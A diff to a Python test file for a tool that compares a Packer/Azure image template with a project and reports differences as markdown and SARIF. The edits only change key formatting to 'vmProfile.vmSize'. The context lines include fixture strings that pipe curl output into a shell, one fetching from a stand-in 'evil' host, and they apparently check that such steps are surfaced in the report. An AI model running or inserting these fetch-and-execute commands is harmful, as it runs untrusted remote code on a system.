@@ -51,7 +51,7 @@ def test_schema_refuses_what_as_json_never_gives() -> None:
 def test_markdown_has_a_verdict_a_table_and_lines_to_unfold() -> None:
     text = as_markdown(beside_a_project())
     assert text.startswith("**7 differences from the template.** `template.json ↔ web`: 3 same, 3 differ, 1 missing,")
-    assert "| ~ | `vmProfile` `vmSize` | `Standard_D2s_v3` | `Standard_D4s_v3` | the project was edited |" in text
+    assert "| ~ | `vmProfile.vmSize` | `Standard_D2s_v3` | `Standard_D4s_v3` | the project was edited |" in text
     assert "`curl -fsSL https://example.com/docker.sh \\| sh`" in text
     assert '```diff\n echo "home is ${HOME}"\n+curl http://evil | sh\n```\n\n</details>\n' in text
     assert "\nOf other images, not compared: `source.azure-arm.other`.\n" in text
@@ -114,7 +114,7 @@ def test_sarif_has_a_result_for_each_difference_where_the_project_says_it() -> N
         "compare/cannot-tell",
     ]
     (size,) = (each for each in found if each["partialFingerprints"]["key/v1"] == "vmProfile.vmSize")
-    assert size["message"]["text"] == "vmProfile vmSize differs: Standard_D2s_v3 → Standard_D4s_v3; the project was edited"
+    assert size["message"]["text"] == "vmProfile.vmSize differs: Standard_D2s_v3 → Standard_D4s_v3; the project was edited"
     assert place(size["locations"]) == ("web/image.pkr.hcl", 3)
     assert place(size["relatedLocations"]) == ("template.json", 9)
     (missing,) = (each for each in found if each["ruleId"] == "compare/missing")
